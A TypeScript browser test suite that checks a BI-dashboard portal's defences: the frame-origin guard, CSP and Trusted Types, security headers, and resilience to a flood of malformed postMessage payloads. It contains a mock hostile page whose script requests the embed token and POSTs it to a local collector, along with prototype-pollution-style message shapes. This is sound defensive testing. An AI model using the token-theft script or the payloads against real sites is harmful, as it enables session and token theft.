import { createServer, request as ask } from 'node:http'
import type { AddressInfo } from 'node:net'
import { describe } from 'vitest'
import type { StackOrigins } from '../../local/http/addresses'
import { boardReady, expect, frameOf, journey } from '../support/journey'

const sdkFrame = 'iframe[data-ts-iframe]'

/** A foreign page on a separate origin that requests the token as soon as it is in the frame. */
async function foreignPage(): Promise<{
  readonly origin: string
  readonly stolen: () => readonly unknown[]
  readonly close: () => Promise<void>
}> {
  const stolen: unknown[] = []
  const server = createServer((request, response) => {
    if (request.method === 'POST') {
      let body = ''
      request.on('data', (part: Buffer) => (body += part.toString()))
      request.on('end', () => {
        stolen.push(JSON.parse(body))
        response.end()
      })
      return
    }
    response.writeHead(200, { 'content-type': 'text/html' })
    response.end(`<!doctype html><title>Foreign</title><script>
      const { port1, port2 } = new MessageChannel()
      port1.onmessage = ({ data }) => fetch('/', { method: 'POST', body: JSON.stringify(data) })
      parent.postMessage({ type: 'appInit', data: {} }, '*', [port2])
      parent.postMessage({ type: 'foreign-page-is-here' }, '*')
    </script>`)
  })
  await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve))
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    stolen: () => stolen,
    close() {
      server.closeAllConnections()
      return new Promise((resolve) => void server.close(() => resolve()))
    },
  }
}

describe('a foreign page in the frame that requests the token', () => {
  journey('is blocked by the origin guard even without CSP, and the portal reports it', async ({ visit }) => {
    const foreign = await foreignPage()
    const visitor = await visit({ context: { bypassCSP: true } })
    const { page } = visitor
    visitor.expectConsole(
      /spoke from a BI frame; the frame was removed/,
      'the guard writes down what it has stopped',
    )
    visitor.expectConsole(/frame-blocked/, 'and so does the view')
    await page.goto(visitor.address('/home'))
    await boardReady(page)
    const token = (): number => visitor.count(/\/api\/token/)
    const before = token()
    await page
      .locator(sdkFrame)
      .evaluate((frame, address) => (frame as HTMLIFrameElement).setAttribute('src', address), foreign.origin)
    await page.getByRole('main').getByRole('button', { name: 'Retry' }).waitFor()
    await page.locator(sdkFrame).waitFor({ state: 'detached' })
    expect(foreign.stolen()).toEqual([])
    expect(token()).toBe(before)
    await page.getByRole('main').getByRole('button', { name: 'Retry' }).click()
    await boardReady(page)
    await foreign.close()
  })
})

/** A request that a browser or curl could send, and the expected status. */
interface Asked {
  readonly of: keyof StackOrigins
  readonly path: string
  readonly status: number
  readonly method?: string
  readonly headers?: Readonly<Record<string, string>>
  readonly body?: string
}

const foreigner = { origin: 'http://localhost:9' }
const json = { 'content-type': 'application/json' }

const asked: readonly Asked[] = [
  { of: 'portal', path: '/home', status: 200 },
  { of: 'portal', path: '/home', status: 307, headers: { host: '127.0.0.1:9' } },
  { of: 'portal', path: '/open-data/gone-1234.js', status: 404 },
  { of: 'portal', path: '/home', status: 405, method: 'POST' },
  { of: 'portal', path: '/home', status: 405, method: 'OPTIONS' },
  { of: 'portal', path: '/home', status: 421, headers: { host: 'elsewhere.example' } },
  { of: 'biHost', path: '/', status: 200 },
  { of: 'biHost', path: '/nowhere', status: 404 },
  { of: 'biHost', path: '/prism/?op=Nothing', status: 401, method: 'POST', headers: json, body: '{}' },
  { of: 'biHost', path: '/prism/', status: 400, method: 'POST', headers: json, body: '{' },
  { of: 'biHost', path: '/prism/', status: 413, method: 'POST', headers: json, body: ' '.repeat(300_000) },
  { of: 'biHost', path: '/prism/', status: 204, method: 'OPTIONS' },
  { of: 'biHost', path: '/prism/', status: 403, method: 'OPTIONS', headers: foreigner },
  { of: 'identity', path: '/nowhere', status: 404, headers: { accept: 'text/html' } },
  { of: 'identity', path: '/nowhere', status: 404, headers: { accept: 'application/json' } },
  { of: 'identity', path: '/authorize', status: 400 },
  { of: 'identity', path: '/oauth/token', status: 400, method: 'POST' },
  { of: 'identity', path: '/oauth/token', status: 404, method: 'OPTIONS' },
  { of: 'services', path: '/nowhere', status: 404 },
  { of: 'services', path: '/api/token', status: 200 },
  { of: 'services', path: '/api/token', status: 404, method: 'POST' },
  { of: 'services', path: '/api/token', status: 403, headers: foreigner },
  { of: 'services', path: '/api/token', status: 204, method: 'OPTIONS' },
  { of: 'services', path: '/api/token-authenticated', status: 401 },
  { of: 'services', path: '/_local/faults', status: 403, method: 'DELETE', headers: foreigner },
  { of: 'services', path: '/_local/counts', status: 403, headers: { 'sec-fetch-site': 'same-site' } },
  { of: 'services', path: '/_local/faults', status: 400, method: 'PUT', headers: json, body: '[{}]' },
  { of: 'flagStream', path: '/nowhere', status: 404 },
  { of: 'flagStream', path: '/ofrep/stream', status: 405, method: 'POST' },
  { of: 'flagStream', path: '/eval/assay-local/nothing', status: 400 },
]

/** Raw response headers by name: fetch hides some and sets others. */
function answerTo(origin: string, { path, method = 'GET', headers = {}, body }: Asked) {
  return new Promise<{ status: number; headers: Readonly<Record<string, unknown>> }>((resolve, reject) => {
    const sent = ask(`${origin}${path}`, { method, headers, agent: false }, (response) => {
      resolve({ status: response.statusCode ?? 0, headers: response.headers })
      response.destroy()
    })
    sent.on('error', reject)
    sent.end(body)
  })
}

describe('every response of every service in the stack', () => {
  journey('has the security headers, including error responses', async ({ origins }) => {
    const answers = await Promise.all(
      asked.map(async (one) => ({ one, ...(await answerTo(origins[one.of], one)) })),
    )
    const named = ({ of, method = 'GET', path }: Asked, status: number): string =>
      `${of} ${method} ${path} ${status}`
    const closes = ({ one, status, headers }: (typeof answers)[number]): readonly string[] => {
      const policy = String(headers['content-security-policy'])
      const isFrame = one.of === 'biHost' && status === 200
      const caching = status === 200 && (one.of === 'portal' || isFrame) ? 'no-cache' : 'no-store'
      return [
        policy.startsWith("default-src 'none'") ? '' : 'policy',
        policy.includes(`frame-ancestors ${isFrame ? origins.portal : "'none'"}`) ? '' : 'frame-ancestors',
        headers['x-content-type-options'] === 'nosniff' ? '' : 'nosniff',
        headers['cross-origin-resource-policy'] === 'same-origin' ? '' : 'resource policy',
        /^(?:no-referrer|strict-origin)$/.test(String(headers['referrer-policy'])) ? '' : 'referrer',
        String(headers['cache-control']).includes(caching) ? '' : `cache ${String(headers['cache-control'])}`,
        headers['x-powered-by'] === undefined && headers['server'] === undefined ? '' : 'a name',
        one.of !== 'portal' || status === 421 || headers['permissions-policy'] !== undefined
          ? ''
          : 'permissions',
      ].filter(Boolean)
    }
    const open = answers.flatMap((answer) => {
      const lacking = closes(answer)
      return lacking.length === 0 ? [] : [`${named(answer.one, answer.status)}: ${lacking.join(', ')}`]
    })
    const statuses = answers.map(({ one, status }) => named(one, status))
    expect({ statuses, open }).toEqual({ statuses: asked.map((one) => named(one, one.status)), open: [] })
  })
})

describe('ten thousand malformed messages', () => {
  journey(
    'from a frame change nothing on the page, which still responds to keys',
    async ({ page, visitor }) => {
      await page.goto(visitor.address('/home'))
      await boardReady(page)
      const frame = await page.locator(sdkFrame).elementHandle()
      const flood = (messages: number): Promise<void> =>
        frameOf(page)
          .locator('html')
          .evaluate(async (_, count) => {
            const deep: { inside?: unknown } = {}
            for (let at = deep, level = 0; level < 200; level += 1) at = at.inside = {}
            const shapes: readonly unknown[] = [
              null,
              7,
              'text',
              [],
              {},
              deep,
              { type: null },
              { type: { toString: 'no function' } },
              { type: 'constructor' },
              { type: '__proto__', data: deep },
              { type: 'x'.repeat(10_000) },
              { type: 'EMBED_HEIGHT', data: { data: 'tall' } },
              { type: 'customAction', data: { id: { toString: 'x' } } },
            ]
            for (let at = 0; at < count; at += 1) parent.postMessage(shapes[at % shapes.length], '*')
            // The response to the last message arrives after all the others.
            const { port1, port2 } = new MessageChannel()
            const last = new Promise((resolve) => port1.addEventListener('message', resolve))
            port1.start()
            parent.postMessage('the last one', '*', [port2])
            await last
          }, messages)
      await page.evaluate(() => {
        addEventListener('message', ({ data, ports: [port] }) => {
          if (data === 'the last one') port?.postMessage(data)
        })
        const seen = new MutationObserver((changes) => {
          document.documentElement.dataset['changes'] = String(changes.length)
        })
        seen.observe(document.body, { subtree: true, childList: true, attributes: true, characterData: true })
      })
      await flood(5_000)
      expect(await page.locator('html').getAttribute('data-changes')).toBeNull()
      const rest = flood(5_000)
      await page.keyboard.press('ControlOrMeta+k')
      await page.getByRole('dialog').waitFor()
      await rest
      expect(await frame?.evaluate((element) => element.isConnected)).toBe(true)
    },
  )
})

describe('the portal page', () => {
  journey(
    'has Trusted Types, a CSP that blocks foreign pages, a 404 for missing assets, and only allowed BI hosts',
    async ({ page, visitor, origins }) => {
      const warnings: string[] = []
      page.on('console', (message) => {
        if (message.type() === 'warning' && message.text().includes('thoughtspotHost'))
          warnings.push(message.text())
      })
      await visitor.context.addInitScript((portal) => {
        if (location.origin === portal) localStorage.setItem('thoughtspotHost', 'http://127.0.0.2:9')
      }, origins.portal)
      const response = await page.goto(visitor.address('/home'))
      const headers = response?.headers() ?? {}
      const policy = headers['content-security-policy'] ?? ''
      for (const part of [
        "default-src 'none'",
        "require-trusted-types-for 'script'",
        "frame-ancestors 'none'",
        "base-uri 'none'",
      ]) {
        expect(policy).toContain(part)
      }
      expect(policy).not.toMatch(/unsafe|\*/)
      expect(headers['x-content-type-options']).toBe('nosniff')
      const refused = await page.evaluate(() => {
        try {
          document.createElement('div').innerHTML = '<b>no</b>'
          return 'written'
        } catch (error) {
          return (error as Error).name
        }
      })
      expect(refused).toBe('TypeError')
      visitor.expectConsole(/TrustedHTML|Trusted Type/, 'the browser says why it refused')

      // The stored host is ignored, with one warning.
      await boardReady(page)
      expect(warnings).toHaveLength(1)
      expect(warnings[0]).toContain('it is no origin on the allow-list')
      const frames = visitor.requests.filter(({ url }) => url.includes('embedApp=true'))
      for (const { url } of frames) expect(new URL(url).origin).toBe(origins.biHost)

      const missing = await visitor.context.request.get(visitor.address('/open-data/gone-1234.js'))
      expect(missing.status()).toBe(404)
      expect(await missing.text()).not.toContain('<div id="root"')

      const foreign = await foreignPage()
      visitor.expectConsole(
        /frame-src|Content Security Policy/,
        'the policy says that it has stopped the page',
      )
      const violated = page.evaluate(
        () =>
          new Promise<string>((resolve) =>
            document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
              if (effectiveDirective !== 'require-trusted-types-for') resolve(effectiveDirective)
            }),
          ),
      )
      await page
        .locator(sdkFrame)
        .evaluate(
          (frame, address) => (frame as HTMLIFrameElement).setAttribute('src', address),
          foreign.origin,
        )
      expect(await violated).toBe('frame-src')
      expect(foreign.stolen()).toEqual([])
      await foreign.close()
      // Shows what happened and a way back, not an empty area.
      visitor.expectConsole(/blocked a frame of another origin|frame-blocked/, 'the portal writes down why')
      const panel = page.getByRole('main').getByRole('alert')
      await panel.getByText('The Home dashboard was blocked').waitFor()
      await panel.getByRole('button', { name: 'Retry' }).click()
      await boardReady(page)
    },
  )
})
